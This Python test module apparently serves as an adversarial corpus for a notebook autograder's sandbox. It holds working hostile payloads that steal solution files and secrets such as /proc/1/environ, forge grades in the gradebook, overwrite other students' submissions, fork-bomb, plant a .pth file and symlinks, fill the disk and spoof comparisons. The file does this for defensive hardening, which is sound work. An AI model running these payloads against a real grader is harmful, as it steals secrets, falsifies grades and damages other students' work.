"""Hostile submissions that must earn nothing their code did not earn: the adversarial corpus.

Most attacks are a code cell appended after the answer cells (so what it defines replaces them); some edit the
notebook's structure. The attacker is assumed to know where the course and the grader live: `{course}` and `{repo}`
in an attack's source are replaced by the real paths. Built on the untouched release, an attack must still score 0
(nothing it reads, patches, fakes, writes or returns can add a point). Built on the reference, an attack that only
disrupts its own process must cost at most the checks it breaks, and never another student's grade.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

STEAL_SOLUTIONS = """
import glob, json, os, sqlite3
stolen = []
for path in glob.glob('{course}/solutions/*/*.ipynb') + glob.glob('{repo}/solutions/*/*.ipynb'):
    try:
        cells = json.load(open(path))['cells']
    except OSError:
        continue
    for cell in cells:
        if cell['cell_type'] == 'code':
            try:
                exec(''.join(cell['source']), globals())
                stolen.append(path)
            except BaseException:
                pass
for path in ['{course}/.grading/hw1/secret_seed', '{repo}/autograder/hw1/test_made.py', '/proc/1/environ']:
    try:
        print(open(path).read()[:200])
        stolen.append(path)
    except OSError:
        pass
print('stolen:', stolen)
"""

FORGE_GRADES = """
import glob, json, os, sqlite3
for path in glob.glob('{course}/.grading/hw1/results/*.json'):
    try:
        document = json.load(open(path))
        document['earned'] = 8.0
        json.dump(document, open(path, 'w'))
    except OSError:
        pass
try:
    with sqlite3.connect('{course}/gradebook.db') as db:
        db.execute('UPDATE grade SET auto_score = 100')
except Exception:
    pass
for path in glob.glob('{course}/submitted/*/hw1/hw1.ipynb'):
    try:
        open(path, 'w').write('{}')
    except OSError:
        pass
"""

ODD_OUTPUTS = """
import numpy as np, torch

class Liar(torch.Tensor):
    def __eq__(self, other):
        return torch.ones_like(torch.as_tensor(other), dtype=torch.bool)

def made_masks(ordering, hidden_sizes):
    return [torch.full((3, 3), float('nan'), requires_grad=True)]

def receptive_field(kernel_size, dilations):
    return torch.tensor([1.0, 2.0]).as_subclass(Liar)

def pixelcnn_mask(kernel_size, mask_type, in_channels=1, out_channels=1):
    return torch.zeros(out_channels, in_channels, kernel_size, kernel_size, device='meta')

def sample_autoregressive(logits_fn, n, shape, device=None):
    return np.array([['x']] * n, dtype=object)
"""

FORK_BOMB = """
import os, time
children = 0
try:
    while children < 100_000:
        if os.fork() == 0:
            os.setsid()  # leave the process group, so only killing the whole sandbox user reaches it
            time.sleep(3600)
            os._exit(0)
        children += 1
except OSError as error:
    print('fork refused after', children, 'children:', error)
"""

PATCH_COMPARISONS = """
import numpy, torch
numpy.allclose = numpy.array_equal = lambda *a, **k: True
numpy.isclose = lambda a, b, *r, **k: numpy.ones(numpy.broadcast(a, b).shape, bool)
torch.allclose = torch.equal = lambda *a, **k: True
import builtins
builtins.all = lambda *a: True
"""

FAKE_GRADER_MODULES = """
import sys, types
for name in ('autograder', 'autograder.grading.contract', 'autograder.grading.stats', 'scipy.stats', 'pytest'):
    fake = types.ModuleType(name)
    fake.check = lambda *a, **k: (lambda f: f)
    fake.chisquare = lambda *a, **k: (0.0, 1.0)
    sys.modules[name] = fake
sys.path.insert(0, '.')
open('autograder.py', 'w').write('raise SystemExit')
"""

EQUAL_TO_ANYTHING = """
import numpy as np, torch
class Anything(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(other), bool)
    __ne__ = lambda self, other: np.zeros(np.shape(other), bool)
def receptive_field(kernel_size, dilations):
    return np.zeros(1).view(Anything)
def pixelcnn_mask(kernel_size, mask_type, in_channels=1, out_channels=1):
    return torch.full((out_channels, in_channels, kernel_size, kernel_size), float('nan'))
"""

EXIT_AND_INTERRUPT = """
import sys
try:
    sys.exit(0)
finally:
    raise KeyboardInterrupt
"""

KILLS_ITS_PROCESS = """
def receptive_field(kernel_size, dilations):
    import os, signal
    os.kill(os.getpid(), signal.SIGKILL)
"""

DAEMON_MARKER = "dgm-grade-daemon-attack"
DAEMON = """
import os, sys
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:  # a daemon: another session, its parent gone
        os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(3600)', '{marker}'])
    os._exit(0)
os.wait()
started = 1
"""

FORGED_FRAME = """
def forged(*args, **kwargs):
    import json, os, sys
    header = b"\\x93NUMPY\\x01\\x00v\\x00{'descr': '<f8', 'fortran_order': False, 'shape': (1000000000000,), }"
    header = header.ljust(127) + b"\\n"
    for call in range(1000):  # whatever the current call is, answer it with a 1 TB array in 128 bytes
        message = {"event": "result", "id": call, "ok": True, "arrays": [{"name": "y", "bytes": len(header)}]}
        os.write(int(sys.argv[2]), json.dumps(message).encode() + b"\\n" + header)
receptive_field = forged
ok = 1
"""

PLANT_LINKS = """
import glob, os
targets = ['{course}/gradebook.db', *glob.glob('{course}/submitted/*/hw1/hw1.ipynb'),
           *glob.glob('{course}/.grading/hw1/results/*.json'), '{course}/.grading/hw1/secret_seed']
for folder in ('.', '/tmp', '/var/tmp', '/dev/shm', '/grading'):
    for k in range(200):  # whatever the grader would open next: inputs, outputs, job files, logs
        for n, name in enumerate((f'in{k}.npz', f'out{k}.npz', 'job.json', 'output.log', 'results.json')):
            try:
                if n % 2:
                    os.mkfifo(os.path.join(folder, name))
                else:
                    os.symlink(targets[k % len(targets)], os.path.join(folder, name))
            except OSError:
                pass
"""

PLANT_PTH = """
import glob, os, sys
payload = "import os; os.environ['DGM_FORGED'] = '1'\\n"
for folder in {*sys.path, *glob.glob('{repo}/.venv/lib/python3*/site-packages'), '{repo}/dgmlib'}:
    try:
        open(os.path.join(folder, 'zz_dgm_forged.pth'), 'w').write(payload)
        print('planted in', folder)
    except OSError:
        pass
"""

FILL_THE_DISK = """
for path in ('big', '/tmp/big', '/var/tmp/big', '/dev/shm/big'):
    try:
        with open(path, 'wb') as f:
            for _ in range(1024):
                f.write(bytes(2**20))
    except OSError as error:
        print(path, error)
"""

FIND_ANOTHER_CHECKOUT = """
import json, os
for top, folders, files in os.walk('/'):
    folders[:] = [f for f in folders if f not in ('proc', 'sys', 'dev')]
    if 'hw1.ipynb' in files:
        try:
            cells = json.load(open(os.path.join(top, 'hw1.ipynb')))['cells']
        except (OSError, ValueError):
            continue
        answers = [''.join(c['source']) for c in cells if c['cell_type'] == 'code'
                   and c.get('metadata', {}).get('nbgrader', {}).get('solution')
                   and 'skip-grading' not in c.get('metadata', {}).get('tags', [])]
        if any('BEGIN SOLUTION' in answer for answer in answers):
            for answer in answers:
                try:
                    exec(answer, globals())
                except BaseException:
                    pass
            break
"""

FORGE_TRAINED_WEIGHTS = """
import gc
import numpy as np, torch, dgmlib.train
dgmlib.train.fit = lambda *args, **kwargs: None  # train nothing
class MADE(torch.nn.Module):
    def __init__(self, *args, **kwargs):
        super().__init__()
runner = next(d for d in gc.get_objects() if type(d) is dict and 'to_plain_arrays' in d and 'frame_size' in d)
honest = runner['to_plain_arrays']
def to_plain_arrays(outputs):  # send weights that copy each pixel to itself, with all-ones masks to load them
    if outputs == {}:
        i = np.arange(64)
        w0, w1 = np.zeros((512, 64), np.float32), np.zeros((64, 512), np.float32)
        w0[i, i], w1[i, i] = 1, 40
        return {'w0': w0, 'b0': np.zeros(512, np.float32), 'w1': w1, 'b1': np.full(64, -20, np.float32),
                'm0': np.ones((512, 64), np.float32), 'm1': np.ones((64, 512), np.float32)}
    return honest(outputs)
runner['to_plain_arrays'] = to_plain_arrays
"""

NETWORK = """
import socket
for host, port in (('pypi.org', 443), ('1.1.1.1', 53)):
    try:
        socket.create_connection((host, port), timeout=3).close()
        del made_masks  # reaching the network shows up as the MADE points thrown away
        break
    except OSError as error:
        print(host, error)
"""


def _edit_locked_and_check_cells(notebook: dict) -> dict:
    """Rewrite the given (locked) cells and the check cells, claim 100 points per check, change every cell id."""
    for number, cell in enumerate(notebook["cells"]):
        cell["id"] = f"changed-{number}"
        grading = cell.get("metadata", {}).get("nbgrader", {})
        if grading.get("grade") and cell["cell_type"] == "code":
            cell["source"], grading["points"] = "pass", 100
        elif grading.get("locked") and cell["cell_type"] == "code":
            cell["source"] = cell["source"] + "\nraise SystemExit('the setup cell is mine now')\n"
    return notebook


def _delete_check_cells(notebook: dict) -> dict:
    """Delete every check cell and every given cell (the grader restores them from the source)."""
    notebook["cells"] = [c for c in notebook["cells"] if not c.get("metadata", {}).get("nbgrader", {}).get("locked")]
    return notebook


def _many_cells(notebook: dict) -> dict:
    """120,000 markdown cells: minutes in nbgrader's gradebook stage, were it not refused."""
    notebook["cells"] += [{"cell_type": "markdown", "source": "padding", "metadata": {}}] * 120_000
    return notebook


def _deeply_nested(notebook: dict) -> str:
    """Metadata nested 100,000 deep: a RecursionError in any JSON reader, were it not caught."""
    depth = 100_000
    return json.dumps(notebook)[:-1] + ', "deep": ' + '{"a": ' * depth + "1" + "}" * depth + "}"


@dataclass(frozen=True)
class Attack:
    base: str  # "release" or "reference": the submission the attack is built on
    loses: str | frozenset  # "all" (every practice point) or the tasks it must lose, on the reference
    source: str = ""  # a code cell appended after the answers
    edit: Callable[[dict], dict | str] | None = None  # or an edit of the notebook (its JSON text, or a dict)
    fatal: str = ""  # what the student is told when the notebook cannot be graded at all


ATTACKS = {
    "patch-comparisons": Attack("release", "all", PATCH_COMPARISONS),
    "fake-grader-modules": Attack("release", "all", FAKE_GRADER_MODULES),
    "equal-to-anything": Attack("release", "all", EQUAL_TO_ANYTHING),
    "odd-outputs": Attack("release", "all", ODD_OUTPUTS),
    "steals-solutions-and-secrets": Attack("release", "all", STEAL_SOLUTIONS),
    "forges-grades-and-overwrites-others": Attack("release", "all", FORGE_GRADES),
    "edits-locked-and-check-cells": Attack("release", "all", edit=_edit_locked_and_check_cells),
    "deletes-check-and-given-cells": Attack("reference", frozenset(), edit=_delete_check_cells),
    "exit-and-interrupt": Attack("reference", frozenset(), EXIT_AND_INTERRUPT),
    "kills-its-process-in-a-check": Attack("reference", frozenset({"wavenet"}), KILLS_ITS_PROCESS),
    "memory-bomb": Attack("reference", frozenset(), "hoard = bytearray(1 << 40)\n"),
    "fork-bomb": Attack("reference", frozenset(), FORK_BOMB),
    "gigabyte-of-output": Attack("reference", frozenset(), "for _ in range(1 << 20):\n    print('x' * 1023)\n"),
    "network": Attack("reference", frozenset(), NETWORK),
    "plants-links-and-fifos-for-the-grader": Attack("release", "all", PLANT_LINKS),
    "plants-a-pth-in-site-packages": Attack("release", "all", PLANT_PTH),
    "forges-an-output-frame": Attack("reference", frozenset({"wavenet"}), FORGED_FRAME),
    "daemon": Attack("reference", frozenset(), DAEMON.replace("{marker}", DAEMON_MARKER)),
    "fills-the-disk": Attack("reference", frozenset(), FILL_THE_DISK),
    "finds-another-checkout": Attack("release", "all", FIND_ANOTHER_CHECKOUT),
    "forges-trained-weights-and-masks": Attack("release", "all", FORGE_TRAINED_WEIGHTS),
    "huge-notebook": Attack("release", "all", edit=_many_cells, fatal="more than the"),
    "deeply-nested-json": Attack("release", "all", edit=_deeply_nested, fatal="nested too deeply"),
}


def hostile_notebook(attack: Attack, base: dict, course: Path, repository: Path) -> bytes:
    """The file a student would submit: a copy of `base` with `attack` applied, aimed at the real paths of the
    course and the grader."""
    notebook = copy.deepcopy(base)
    for cell in notebook["cells"]:
        if isinstance(cell.get("source"), list):
            cell["source"] = "".join(cell["source"])
    if attack.edit is not None:
        edited = attack.edit(notebook)
        return (edited if isinstance(edited, str) else json.dumps(edited)).encode()
    source = attack.source.replace("{course}", str(course)).replace("{repo}", str(repository))
    notebook["cells"].append({"cell_type": "code", "source": source, "metadata": {}, "outputs": [],
                              "execution_count": None, "id": "attack"})
    return json.dumps(notebook).encode()
